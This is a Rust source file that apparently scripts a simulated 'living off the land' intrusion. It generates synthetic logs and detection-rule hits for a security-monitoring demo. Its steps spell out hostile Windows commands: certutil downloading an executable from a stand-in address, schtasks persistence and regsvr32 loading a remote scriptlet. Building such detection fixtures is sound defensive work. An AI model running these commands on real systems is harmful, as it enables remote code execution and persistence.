//! Nothing is brought along: the system's own tools fetch, plant and call.

use std::net::Ipv4Addr;

use base::ObservableKind::Address;
use watch::judge::Verdict;

use super::{Plot, Stage};
use crate::demo::clock::Moment;
use crate::demo::desk::Start;
use crate::demo::write::Request;

const HOME: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 90);
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";

pub(in crate::demo) static PLOT: Plot = Plot {
    key: "living_off_the_land",
    name: ["正規ツールの悪用", "Living off the land"],
    summary: [
        "法制司法省の端末で、certutilが外部からプログラムを取得し、schtasksが30分ごとの実行を登録し、\
         regsvr32が遠隔のスクリプトを読み込む。いずれもWindowsに備わる正規のツールである。",
        "At the Ministry of Legislation and Justice certutil fetches a program, schtasks runs it every half hour and \
         regsvr32 loads a remote script: all of them tools that come with Windows.",
    ],
    starts: Moment::at(14, 33),
    organisations: &["homu"],
    rules: &[
        "certutil_download",
        "scheduled_task_from_user_folder",
        "task_registered_from_user_folder",
        "regsvr32_remote_script",
        "program_from_bare_address",
        "system_tool_user_agent",
    ],
    observables: &[(Address, "192.0.2.90")],
    verdict: Verdict::Threat,
    tell,
};

fn tell(stage: &mut Stage<'_>) {
    let mut site = stage.site("homu");
    let client = site.place.client(55);
    let user = site.account(&client.person.user);
    let address = HOME.to_string();
    let steps = [
        (
            Moment::at(14, 33),
            "C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://192.0.2.90/d/sync.exe C:\\Users\\Public\\sync.exe",
            Some(("/d/sync.exe", "CertUtil URL Agent", "application/octet-stream")),
        ),
        (
            Moment::at(14, 36),
            "C:\\Windows\\System32\\schtasks.exe",
            "schtasks.exe /create /sc minute /mo 30 /tn OfficeSync /tr C:\\Users\\Public\\sync.exe /f",
            None,
        ),
        (
            Moment::at(14, 41),
            "C:\\Windows\\System32\\regsvr32.exe",
            "regsvr32.exe /s /n /u /i:http://192.0.2.90/f.sct scrobj.dll",
            Some((
                "/f.sct",
                "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/8.0)",
                "text/scriptlet",
            )),
        ),
    ];
    for (at, image, command, fetched) in steps {
        site.start(&Start {
            at,
            host: &client.host,
            user: &user,
            image,
            command,
            parent: CMD,
            parent_command: CMD,
            integrity: "Medium",
        });
        let Some((path, agent, kind)) = fetched else { continue };
        site.connect(at.plus(0.3), (&client.host, client.address), &user, image, (HOME, 80));
        let request = Request {
            https: false,
            bytes: 88_064,
            kind,
            ..Request::get(at.plus(0.4), &address, path, agent)
        };
        site.fetch(client, HOME, "Uncategorized", &request);
        site.fetch_on_the_wire(client, HOME, &request);
    }
    site.file(
        Moment::at(14, 33).plus(2.0),
        &client.host,
        &user,
        "C:\\Windows\\System32\\certutil.exe",
        "C:\\Users\\Public\\sync.exe",
    );
    let content = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\"><Triggers><TimeTrigger><Repetition>\
                   <Interval>PT30M</Interval></Repetition></TimeTrigger></Triggers><Actions><Exec><Command>\
                   C:\\Users\\Public\\sync.exe</Command></Exec></Actions></Task>";
    let data = vec![
        ("SubjectUserSid", "S-1-5-21-4020993649-1037605010-417876593-1155".to_owned()),
        ("SubjectUserName", client.person.user.clone()),
        ("SubjectDomainName", site.place.netbios.clone()),
        ("SubjectLogonId", "0x2b78cd".to_owned()),
        ("TaskName", "\\OfficeSync".to_owned()),
        ("TaskContent", content.to_owned()),
    ];
    site.security(Moment::at(14, 36).plus(0.4), &client.host, 4698, data);
    for round in 0..12 {
        let at = Moment::at(15, 6).plus(f64::from(round) * 1_800.0);
        let sync = "C:\\Users\\Public\\sync.exe";
        site.start(&Start {
            at,
            host: &client.host,
            user: &user,
            image: sync,
            command: sync,
            parent: "C:\\Windows\\System32\\svchost.exe",
            parent_command: "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            integrity: "Medium",
        });
        site.connect(at.plus(0.6), (&client.host, client.address), &user, sync, (HOME, 443));
    }
}
